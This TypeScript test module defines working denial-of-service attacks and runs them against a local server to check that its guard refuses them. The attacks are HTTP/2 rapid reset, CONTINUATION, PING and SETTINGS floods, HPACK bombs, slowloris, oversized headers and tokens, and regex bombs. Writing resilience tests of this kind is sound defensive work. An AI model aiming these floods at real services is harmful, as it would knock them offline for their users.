import { connect, type Socket } from 'node:net';
import { RawClient } from '../../../packages/server/src/testing/raw-client.ts';
import { frame, literal, PREFACE } from '../corpus/h2-client.ts';
import { BOMBS, LARGE_BOMB } from './bombs.ts';

/** What an attack did and met: `connections`, `turns`, `ended` (connections that the server ended), `status 431`, … */
export type AttackCounts = Readonly<Record<string, number>>;

/** Keeps one attack up until it is told to stop; answers what it did. */
export interface Attack {
  readonly name: string;
  /** Whose port it attacks; others are served by the same process. */
  readonly on?: 'grpc';
  run(port: number, stopped: () => boolean): Promise<AttackCounts>;
  /** What the guard answers it: every response has one of these statuses, each was given; or the server ends its connections. */
  readonly refusal?: { readonly statuses: readonly number[] } | 'ended';
}

/** Why the guard did not refuse an attack as it should; undefined = it did. */
export function unrefused({ refusal }: Attack, did: AttackCounts): string | undefined {
  if (refusal === undefined) return undefined;
  if (refusal === 'ended') return (did.ended ?? 0) > 0 ? undefined : 'no connection was ended';
  const seen = Object.keys(did).flatMap((name) => /^status (\d+)$/.exec(name)?.[1] ?? []);
  const wanted = refusal.statuses.map(String);
  return seen.sort().join() === [...wanted].sort().join() ? undefined : `answered with ${seen.join()} instead of ${wanted.join()}`;
}

const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const PING = 6;
const CONTINUATION = 9;
const END_STREAM = 1;
const END_HEADERS = 4;
const BATCH = 200;

const encoded = (...fields: readonly (readonly [string, string])[]): Buffer =>
  Buffer.concat(fields.map(([name, value]) => Buffer.concat([Buffer.from([0]), literal(name), literal(value)])));
const HEAD = encoded([':method', 'GET'], [':scheme', 'http'], [':authority', 'a'], [':path', '/']);
const POST_HEAD = encoded([':method', 'POST'], [':scheme', 'http'], [':authority', 'a'], [':path', '/']);
const CALL_HEAD = encoded(
  [':method', 'POST'],
  [':scheme', 'http'],
  [':authority', 'a'],
  [':path', '/test.Echo/Echo'],
  ['content-type', 'application/grpc'],
  ['te', 'trailers'],
);
const CANCEL = Buffer.from([0, 0, 0, 8]);
const SETTINGS_FRAME = frame(SETTINGS, 0, 0, Buffer.alloc(0));

/** Opens a connection again and again, and writes to each until it ends. */
async function onConnections(port: number, stopped: () => boolean, write: (socket: Socket, turn: number) => void): Promise<AttackCounts> {
  const counts: Record<string, number> = { connections: 0, turns: 0, ended: 0 };
  const count = (what: string): void => {
    counts[what] = (counts[what] ?? 0) + 1;
  };
  while (!stopped()) {
    const socket = connect({ port, host: '127.0.0.1', noDelay: true });
    let ended = false;
    socket.on('error', () => {});
    // A status line that is cut between two chunks is not counted; there are enough others.
    socket.on('data', (data: Buffer) => {
      for (const [, status] of data.toString('latin1').matchAll(/HTTP\/1\.1 (\d{3}) /g)) count(`status ${status}`);
    });
    socket.once('close', () => {
      ended = true;
    });
    count('connections');
    for (let turn = 0; !ended && !stopped(); turn++) {
      count('turns');
      write(socket, turn);
      await pause();
    }
    if (ended) count('ended');
    socket.destroy();
  }
  return counts;
}

const pause = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 5));

const resetAtOnce = (socket: Socket, turn: number, head: Buffer = HEAD): void => {
  const frames: Buffer[] = turn === 0 ? [PREFACE, SETTINGS_FRAME] : [];
  for (let index = 0; index < BATCH; index++) {
    const id = 2 * (turn * BATCH + index) + 1;
    frames.push(frame(HEADERS, END_STREAM | END_HEADERS, id, head), frame(RST_STREAM, 0, id, CANCEL));
  }
  socket.write(Buffer.concat(frames));
};

const rapidReset: Attack = {
  name: 'rapid reset',
  refusal: 'ended',
  run: (port, stopped) => onConnections(port, stopped, (socket, turn) => resetAtOnce(socket, turn)),
};

const onTwenty =
  (head: Buffer): Attack['run'] =>
  async (port, stopped) => {
    const attack = () => onConnections(port, stopped, (socket, turn) => resetAtOnce(socket, turn, head));
    const all = await Promise.all(Array.from({ length: 20 }, attack));
    const sums: Record<string, number> = {};
    for (const counts of all) for (const [what, count] of Object.entries(counts)) sums[what] = (sums[what] ?? 0) + count;
    return sums;
  };

const manyRapidResets: Attack = { name: 'rapid reset on 20 connections', refusal: 'ended', run: onTwenty(HEAD) };

const rapidResetOfCalls: Attack = {
  name: 'rapid reset of gRPC calls on 20 connections',
  on: 'grpc',
  refusal: 'ended',
  run: onTwenty(CALL_HEAD),
};

/** Frames on a connection whose preface was sent, turn by turn. */
const floods = (framesOf: (turn: number) => readonly Buffer[]): Attack['run'] => {
  const write = (socket: Socket, turn: number): void => {
    socket.write(Buffer.concat([...(turn === 0 ? [PREFACE, SETTINGS_FRAME] : []), ...framesOf(turn)]));
  };
  return (port, stopped) => onConnections(port, stopped, write);
};
const many = (one: Buffer): readonly Buffer[] => Array.from({ length: BATCH }, () => one);

const continuations = (head: Buffer): Attack['run'] =>
  floods((turn) => {
    const field = Buffer.concat([Buffer.from([0]), literal(`x-${turn}`), literal('y'.repeat(4_000))]);
    const start = turn === 0 ? [frame(HEADERS, END_STREAM, 1, head)] : [];
    return [...start, ...Array.from({ length: 10 }, () => frame(CONTINUATION, 0, 1, field))];
  });
/** One kibibyte that becomes a megabyte: a field that the table remembers, a thousand times. */
const tables = (head: Buffer): Attack['run'] => {
  const bomb = Buffer.concat([head, Buffer.from([0x40]), literal('x'), literal('y'.repeat(1_000)), Buffer.alloc(1_000, 0xbe)]);
  return floods((turn) => Array.from({ length: 10 }, (_, at) => frame(HEADERS, END_STREAM | END_HEADERS, 2 * (10 * turn + at) + 1, bomb)));
};
const pings = floods(() => many(frame(PING, 0, 0, Buffer.alloc(8))));
const settings = floods(() => many(frame(SETTINGS, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]))));
/** Streams whose body never comes. Those that are more than a connection may have are refused one by one: memory is what is looked at. */
const endless = (head: Buffer): Attack['run'] =>
  floods((turn) => Array.from({ length: 10 }, (_, at) => frame(HEADERS, END_HEADERS, 2 * (10 * turn + at) + 1, head)));

const HTTP2_FLOODS: readonly Attack[] = [
  { name: 'CONTINUATION flood', refusal: 'ended', run: continuations(HEAD) },
  { name: 'HPACK bombs', run: tables(HEAD) },
  { name: 'PING flood', run: pings },
  { name: 'SETTINGS flood', run: settings },
  { name: 'streams that never end', run: endless(POST_HEAD) },
];
const GRPC_FLOODS: readonly Attack[] = [
  rapidResetOfCalls,
  { name: 'CONTINUATION flood of gRPC calls', on: 'grpc', refusal: 'ended', run: continuations(CALL_HEAD) },
  { name: 'HPACK bombs of gRPC calls', on: 'grpc', run: tables(CALL_HEAD) },
  { name: 'PING flood on a gRPC server', on: 'grpc', run: pings },
  { name: 'SETTINGS flood on a gRPC server', on: 'grpc', run: settings },
  { name: 'gRPC calls that never end', on: 'grpc', run: endless(CALL_HEAD) },
];

const headerBomb: Attack = {
  name: 'header bombs',
  refusal: { statuses: [431] },
  run: (port, stopped) =>
    onConnections(port, stopped, (socket) => {
      socket.write(
        `GET / HTTP/1.1\r\nHost: a\r\n${Array.from({ length: 2_000 }, (_, at) => `x-${at}: ${'y'.repeat(20)}\r\n`).join('')}\r\n`,
      );
    }),
};

const giantToken: Attack = {
  name: 'giant tokens',
  refusal: { statuses: [401] },
  run: (port, stopped) =>
    onConnections(port, stopped, (socket) => {
      const part = Buffer.from(`{"iss":"https://issuer.test","a":${'['.repeat(10_000)}`).toString('base64url');
      socket.write(`GET / HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${part}.${part}.${part}\r\n\r\n`);
    }),
};

const slowloris: Attack = {
  name: 'slowloris',
  run: async (port, stopped) => {
    const sockets = Array.from({ length: 1_000 }, () => {
      const socket = connect({ port, host: '127.0.0.1' });
      socket.on('error', () => {});
      socket.write('GET / HTTP/1.1\r\nHost: a\r\n');
      return socket;
    });
    for (let turn = 0; !stopped(); turn++) {
      for (let index = turn % 10; index < sockets.length; index += 10) if (!sockets[index]!.destroyed) sockets[index]!.write('x: 1\r\n');
      await pause();
    }
    for (const socket of sockets) socket.destroy();
    return { connections: sockets.length };
  },
};

/** One after the other: what each costs is what is asked here, not what very many of them cost. */
const sendsBombs = (requestOf: (text: string, index: number) => string): Attack['run'] => {
  const requests = [...BOMBS, LARGE_BOMB].map(([, text], index) => `${requestOf(text, index)}\r\n`);
  return async (port, stopped) => {
    const counts: Record<string, number> = { connections: 1, turns: 0 };
    const client = await RawClient.open(port);
    for (let turn = 0; !stopped() || turn < requests.length; turn++) {
      client.write(requests[turn % requests.length]!);
      const { status } = await client.response();
      counts[`status ${status}`] = (counts[`status ${status}`] ?? 0) + 1;
      counts.turns = turn + 1;
      await pause();
    }
    client.close();
    return counts;
  };
};

const bombsForPolicies: Attack = {
  name: 'regex bombs for a policy',
  refusal: { statuses: [200, 500] },
  run: sendsBombs((text, index) => `GET / HTTP/1.1\r\nHost: a\r\nx-bomb-${index}: ${text}\r\n`),
};

const bombsForRoutes: Attack = {
  name: 'regex bombs for routes',
  refusal: { statuses: [200, 500] },
  run: sendsBombs((text, index) => `GET /out/${index}/${text} HTTP/1.1\r\nHost: a\r\n`),
};

export const ATTACKS: readonly Attack[] = [
  rapidReset,
  manyRapidResets,
  ...HTTP2_FLOODS,
  ...GRPC_FLOODS,
  headerBomb,
  giantToken,
  slowloris,
  bombsForPolicies,
  bombsForRoutes,
];
